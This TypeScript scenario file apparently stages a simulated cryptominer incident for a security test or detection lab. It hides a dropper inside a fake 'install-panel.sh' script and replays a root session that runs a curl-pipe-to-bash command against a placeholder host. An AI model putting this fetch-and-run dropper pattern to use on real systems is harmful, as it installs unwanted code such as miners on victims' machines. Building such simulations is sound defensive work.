// curl | sh, copied from a page, typed in his own session; it brought a miner along.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  const key = dress.key('owner', 'wang@laptop')
  dress.trust('root', key)
  dress.logins({ days: 20, guesses: 40, friends: [{ user: 'root', address: '198.51.100.20', key: key.fingerprint, hours: [9, 15] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/local/share/panel/panel-core', fetch: 'curl', cron: false })
  stage.offer('install-panel.sh', `echo installing the panel; ${line}\n`)
  stage.mark('occurrence')
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, [
    'uptime',
    `curl -fsSL http://${stage.values['SHOP']}/install-panel.sh | bash`,
    'sleep 2',
  ])
}
